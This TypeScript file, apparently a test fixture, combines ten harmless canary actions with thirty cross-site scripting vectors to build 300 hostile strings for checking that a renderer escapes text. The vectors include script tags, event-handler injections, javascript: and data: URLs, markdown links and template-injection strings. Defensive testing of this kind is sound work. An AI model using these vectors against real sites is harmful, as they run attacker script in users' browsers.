/** What each text tries to run: a page in which it ran has `canary` as a property, or has asked for it by name. */
const actions = [
  'window.canary=1',
  'self["can"+"ary"]=1',
  'globalThis.canary=1',
  'top.canary=1',
  'fetch("https://canary.example/")',
  'import("https://canary.example/x.js")',
  'alert("canary")',
  'location="https://canary.example/"',
  'document.title="canary"',
  'open("https://canary.example/")'
]

/** Ways to have an action run by what draws a text as anything but text. */
const vectors: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<ScRiPt >${action}</sCrIpT>`,
  (action) => `</title></textarea><script>${action}</script>`,
  (action) => `<img src=x onerror='${action}'>`,
  (action) => `<img/src=x/onerror='${action}'//`,
  (action) => `"><svg/onload='${action}'>`,
  (action) => `'><body onload='${action}'>`,
  (action) => `<svg><script>${action}</script></svg>`,
  (action) => `<svg><animate onbegin='${action}' attributeName=x dur=1s>`,
  (action) => `<math><mtext><img src=x onerror='${action}'></mtext></math>`,
  (action) => `<details open ontoggle='${action}'>`,
  (action) => `<input autofocus onfocus='${action}'>`,
  (action) => `<video><source onerror='${action}'></video>`,
  (action) => `<audio src=x onerror='${action}'>`,
  (action) => `<iframe srcdoc='<script>${action}</script>'></iframe>`,
  (action) => `<iframe src='javascript:${action}'></iframe>`,
  (action) => `<object data='data:text/html,<script>${action}</script>'></object>`,
  (action) => `<embed src='data:text/html,<script>${action}</script>'>`,
  (action) => `<a href='javascript:${action}'>link</a>`,
  (action) => `[link](javascript:${action})`,
  (action) => `![picture](x "onerror=${action}")`,
  (action) => `<style>@import 'javascript:${action}'</style>`,
  (action) => `<link rel=stylesheet href='javascript:${action}'>`,
  (action) => `<meta http-equiv=refresh content='0;javascript:${action}'>`,
  (action) => `{{constructor.constructor('${action}')()}}`,
  (action) => `\${${action}}`,
  (action) => `<!--><script>${action}</script>-->`,
  (action) => `\u202e<script>${action}</script>\u2066`,
  (action) => `&lt;script&gt;${action}&lt;/script&gt;`,
  (action) => `\\u003cscript\\u003e${action}\\u003c/script\\u003e`
]

/** 300 texts, each of which runs something where it is not drawn as text. */
export const hostileTexts: readonly string[] = vectors.flatMap((vector) => actions.map(vector))
